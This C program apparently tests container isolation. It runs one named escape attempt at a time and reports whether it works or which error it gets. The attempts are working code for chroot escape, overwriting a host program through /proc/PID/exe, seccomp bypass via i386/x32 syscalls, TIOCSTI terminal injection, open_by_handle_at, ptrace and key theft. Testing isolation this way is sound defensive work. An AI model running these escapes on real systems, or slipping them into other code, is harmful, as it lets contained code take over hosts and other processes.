/*
 * escapes ATTEMPT [ARGUMENT...]
 *
 * Ways out of a container, one for each ATTEMPT. Each line of output says what was tried and how it went: `works`, or
 * the name of the errno.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#define FAILED 99

static void show(const char *what, long result)
{
	printf("%s %s\n", what, result < 0 ? strerrorname_np(errno) : "works");
	fflush(stdout);
}

/* Opens the absolute `path` from `dir` with more steps up than there are directories above. */
static int open_above(int dir, const char *path)
{
	char way[4096] = "";

	for (int step = 0; step < 64; step++)
		strcat(way, "../");
	strncat(way, path, sizeof way - strlen(way) - 1);
	return openat(dir, way, O_RDONLY | O_CLOEXEC);
}

/* chroot SECRET: a new root below the working directory leaves that outside of it, and up it goes past the old root. */
static void chroot_twice(char **words)
{
	if (mkdir("jail", 0755) != 0 && errno != EEXIST)
		err(FAILED, "mkdir");
	if (chroot("jail") != 0)
		err(FAILED, "chroot");
	show("chroot", open_above(AT_FDCWD, words[0]));
}

/* chroot-descriptor SECRET: the same by a descriptor of the old root instead of the working directory. */
static void chroot_descriptor(char **words)
{
	int root = open("/", O_PATH | O_DIRECTORY);

	if (mkdir("jail", 0755) != 0 && errno != EEXIST)
		err(FAILED, "mkdir");
	if (root < 0 || chroot("jail") != 0 || chdir("/") != 0)
		err(FAILED, "chroot");
	show("descriptor", open_above(root, words[0]));
}

/* up SECRET */
static void up(char **words)
{
	show("up", open_above(AT_FDCWD, words[0]));
}

/* into ROOT DIRECTORY SECRET: what a careless runner does with a working directory. */
static void into(char **words)
{
	if (chdir(words[1]) != 0 || chroot(words[0]) != 0)
		err(FAILED, "into");
	up(words + 2);
}

static int next_number(DIR *directory)
{
	for (struct dirent *entry; (entry = readdir(directory)) != NULL;)
		if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9')
			return atoi(entry->d_name);
	return -1;
}

/* descriptors SECRET: goes up from every directory that any process has open. */
static void descriptors(char **words)
{
	DIR *processes = opendir("/proc");
	int tried = 0;

	for (int pid; processes != NULL && (pid = next_number(processes)) >= 0;) {
		char path[64];
		DIR *list;

		snprintf(path, sizeof path, "/proc/%d/fd", pid);
		list = opendir(path);
		for (int number; list != NULL && (number = next_number(list)) >= 0; tried++) {
			int file;

			snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, number);
			file = open(path, O_PATH);
			if (file >= 0 && open_above(file, words[0]) >= 0)
				printf("reached by descriptor %d\n", number);
			close(file);
		}
		if (list != NULL)
			closedir(list);
	}
	puts(tried >= 3 ? "tried" : "nothing to try");
}

/*
 * exe-write PID NAME: keeps the program of a process, and overwrites it as soon as it may. A running program cannot be
 * written to, so this goes on for as long as anything runs it. No program that has another name is touched.
 */
static void exe_write(char **words)
{
	char path[64], link[4096] = "", *name;
	time_t end = time(NULL) + 2;
	int file;

	snprintf(path, sizeof path, "/proc/%s/exe", words[0]);
	file = open(path, O_PATH);
	show("exe", file);
	snprintf(path, sizeof path, "/proc/self/fd/%d", file);
	if (file < 0 || readlink(path, link, sizeof link - 1) < 0)
		return;
	name = strrchr(link, '/');
	/* A file that was executed from a mount of its own is the root of that. */
	if (strcmp(link, "/") != 0 && (name == NULL || strcmp(name + 1, words[1]) != 0))
		errx(FAILED, "%s is no %s", link, words[1]);
	while (time(NULL) < end) {
		int written = open(path, O_WRONLY | O_TRUNC);

		if (written >= 0 && write(written, "overwritten", 11) == 11) {
			show("overwrite", 0);
			return;
		}
	}
}

/* exe-change PID: what can be changed of a running program as well. Owner comes before mode, which it would change. */
static void exe_change(char **words)
{
	static const unsigned capabilities[] = {0x02000001, ~0u, 0, ~0u, 0};
	const struct timespec times[2] = {{.tv_sec = 1}, {.tv_sec = 1}};
	char path[64];

	snprintf(path, sizeof path, "/proc/%s/exe", words[0]);
	show("utimens", utimensat(AT_FDCWD, path, times, 0));
	show("chown", chown(path, 1000, 1000));
	show("chmod", chmod(path, 06777));
	show("setxattr", setxattr(path, "security.capability", capabilities, sizeof capabilities, 0));
}

/* process PID: the ways into another process. */
static void process(char **words)
{
	int pid = atoi(words[0]), handle = syscall(SYS_pidfd_open, pid, 0);
	struct iovec own = {&pid, sizeof pid}, others = {NULL, sizeof pid};
	char path[64];

	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	show("mem", open(path, O_RDWR));
	snprintf(path, sizeof path, "/proc/%d/environ", pid);
	show("environ", open(path, O_RDONLY));
	snprintf(path, sizeof path, "/proc/%d/root/", pid);
	show("root", open(path, O_PATH));
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	show("exe", open(path, O_PATH));
	/* Nothing lies at 0: who may read learns that, with EFAULT. */
	if (process_vm_readv(pid, &own, 1, &others, 1, 0) < 0 && errno == EFAULT)
		show("process_vm_readv", 0);
	else
		show("process_vm_readv", -1);
	show("pidfd_getfd", handle < 0 ? -1 : syscall(SYS_pidfd_getfd, handle, 0, 0));
	/* Unlike PTRACE_ATTACH it stops nobody. */
	show("ptrace", ptrace(PTRACE_SEIZE, pid, 0, 0));
}

/* The process whose second word is `exec`: one that enters and has not become its command yet. */
static int entering(void)
{
	DIR *processes = opendir("/proc");
	int found = 0;

	for (int pid; found == 0 && processes != NULL && (pid = next_number(processes)) >= 0;) {
		char path[64], words[64] = "";
		int file;

		snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
		file = open(path, O_RDONLY | O_CLOEXEC);
		if (file >= 0 && read(file, words, sizeof words - 1) > 0 && strcmp(words + strlen(words) + 1, "exec") == 0)
			found = pid;
		close(file);
	}
	closedir(processes);
	return found;
}

/* entering: the ways into who enters, as soon as it is seen. */
static void into_entering(char **words)
{
	time_t end = time(NULL) + 10;
	char number[16];
	int pid;

	while ((pid = entering()) == 0 && time(NULL) < end)
		usleep(500);
	snprintf(number, sizeof number, "%d", pid);
	words[0] = number;
	process(words);
	puts(pid != 0 && pid == entering() ? "still entering" : "too late");
}

/* kill PID */
static void kill_process(char **words)
{
	show("kill", kill(atoi(words[0]), SIGKILL));
}

/* open r|w PATH... */
static void open_each(char **words)
{
	int flags = words[0][0] == 'w' ? O_WRONLY : O_RDONLY;

	for (words++; *words != NULL; words++)
		show(*words, open(*words, flags | O_NONBLOCK | O_NOCTTY | O_CLOEXEC));
}

/* tiocsti TEXT: types into the terminal of standard input. */
static void tiocsti(char **words)
{
	long result = 0;

	for (char *key = words[0]; *key != 0 && result == 0; key++)
		result = ioctl(0, TIOCSTI, key);
	show("tiocsti", result);
}

/* tioclinux: asks the virtual console of standard input for its shift keys; the same call pastes into it. */
static void tioclinux(char **words)
{
	char command = 6;

	(void)words;
	show("tioclinux", ioctl(0, TIOCLINUX, &command));
}

/* i386 and x32: calls by the two other tables of x86_64, which a filter by number may have forgotten. */
static void i386(char **words)
{
	int result = -ENOSYS;

	(void)words;
#ifdef __x86_64__
	__asm__ volatile("int $0x80" : "=a"(result) : "a"(20) : "memory", "r8", "r9", "r10", "r11");
#endif
	errno = -result;
	show("i386", result == getpid() ? 0 : -1);
}

static void x32(char **words)
{
	(void)words;
	show("x32", syscall(0x40000000 | 39));
}

/* user-namespace: each call that makes one. */
static void user_namespace(char **words)
{
	struct clone_args arguments = {.flags = CLONE_NEWUSER, .exit_signal = SIGCHLD};
	long child = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);

	(void)words;
	if (child == 0)
		_exit(0);
	show("clone", child);
	child = syscall(SYS_clone3, &arguments, sizeof arguments);
	if (child == 0)
		_exit(0);
	show("clone3", child);
	show("unshare", unshare(CLONE_NEWUSER));
}

/* with-key KEYRING NAME COMMAND...: runs a command of somebody who has a key on the keyring `session` or `user`. */
static void with_key(char **words)
{
	int keyring = words[0][0] == 's' ? KEY_SPEC_SESSION_KEYRING : KEY_SPEC_USER_KEYRING, status;
	long key;
	pid_t child;

	if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0)
		err(FAILED, "session keyring");
	key = syscall(SYS_add_key, "user", words[1], "secret", 6, keyring);
	if (key < 0)
		err(FAILED, "add_key");
	child = fork();
	if (child == 0) {
		execvp(words[2], words + 2);
		err(FAILED, "%s", words[2]);
	}
	waitpid(child, &status, 0);
	if (syscall(SYS_keyctl, KEYCTL_UNLINK, key, keyring) != 0)
		err(FAILED, "unlink");
	exit(WIFEXITED(status) ? WEXITSTATUS(status) : FAILED);
}

/* key KEYRING NAME: reads that key. One of the user's keyring can be read by who has that linked to his session's. */
static void read_key(char **words)
{
	char secret[16];
	long key = 0;

	if (words[0][0] == 'u')
		key = syscall(SYS_keyctl, KEYCTL_LINK, KEY_SPEC_USER_KEYRING, KEY_SPEC_SESSION_KEYRING);
	if (key == 0)
		key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", words[1], 0);
	show("key", key < 0 ? key : syscall(SYS_keyctl, KEYCTL_READ, key, secret, sizeof secret));
}

/* handle-of PATH: prints the handle of a file, which somebody inside would have to guess. */
static void handle_of(char **words)
{
	struct file_handle *handle = malloc(sizeof *handle + MAX_HANDLE_SZ);
	int mount;

	handle->handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, words[0], handle, &mount, 0) != 0) {
		show("handle", -1);
		return;
	}
	printf("%d:", handle->handle_type);
	for (unsigned index = 0; index < handle->handle_bytes; index++)
		printf("%02x", handle->f_handle[index]);
	puts("");
}

/* handle HANDLE: opens the file with that handle on the filesystem of the root, whatever is mounted of it. */
static void open_handle(char **words)
{
	struct file_handle *handle = malloc(sizeof *handle + MAX_HANDLE_SZ);
	char *digits = strchr(words[0], ':');

	handle->handle_type = atoi(words[0]);
	handle->handle_bytes = 0;
	for (digits++; sscanf(digits, "%2hhx", &handle->f_handle[handle->handle_bytes]) == 1; digits += 2)
		handle->handle_bytes++;
	show("handle", open_by_handle_at(open("/", O_RDONLY | O_DIRECTORY), handle, O_RDONLY));
}

/* abstract NAME: an abstract unix socket. */
static void abstract(char **words)
{
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	socklen_t length = offsetof(struct sockaddr_un, sun_path) + 1 + strlen(words[0]);

	strncpy(address.sun_path + 1, words[0], sizeof address.sun_path - 2);
	show("abstract", connect(socket(AF_UNIX, SOCK_STREAM, 0), (struct sockaddr *)&address, length));
}

/* port NUMBER: a TCP port of the loopback device. */
static void port(char **words)
{
	struct sockaddr_in address = {
		.sin_family = AF_INET,
		.sin_port = htons(atoi(words[0])),
		.sin_addr.s_addr = htonl(INADDR_LOOPBACK),
	};

	show("port", connect(socket(AF_INET, SOCK_STREAM, 0), (struct sockaddr *)&address, sizeof address));
}

static const struct attempt {
	const char *name;
	int arguments;
	void (*perform)(char **words);
} ATTEMPTS[] = {
	{"chroot", 1, chroot_twice},
	{"chroot-descriptor", 1, chroot_descriptor},
	{"up", 1, up},
	{"into", 3, into},
	{"descriptors", 1, descriptors},
	{"exe-write", 2, exe_write},
	{"exe-change", 1, exe_change},
	{"process", 1, process},
	{"entering", 1, into_entering},
	{"kill", 1, kill_process},
	{"open", 2, open_each},
	{"tiocsti", 1, tiocsti},
	{"tioclinux", 0, tioclinux},
	{"i386", 0, i386},
	{"x32", 0, x32},
	{"user-namespace", 0, user_namespace},
	{"with-key", 3, with_key},
	{"key", 2, read_key},
	{"handle-of", 1, handle_of},
	{"handle", 1, open_handle},
	{"abstract", 1, abstract},
	{"port", 1, port},
};

int main(int count, char **words)
{
	for (size_t index = 0; index < sizeof ATTEMPTS / sizeof ATTEMPTS[0]; index++) {
		const struct attempt *attempt = &ATTEMPTS[index];

		if (count >= 2 && strcmp(words[1], attempt->name) == 0 && count - 2 >= attempt->arguments) {
			attempt->perform(words + 2);
			return 0;
		}
	}
	errx(FAILED, "what?");
}
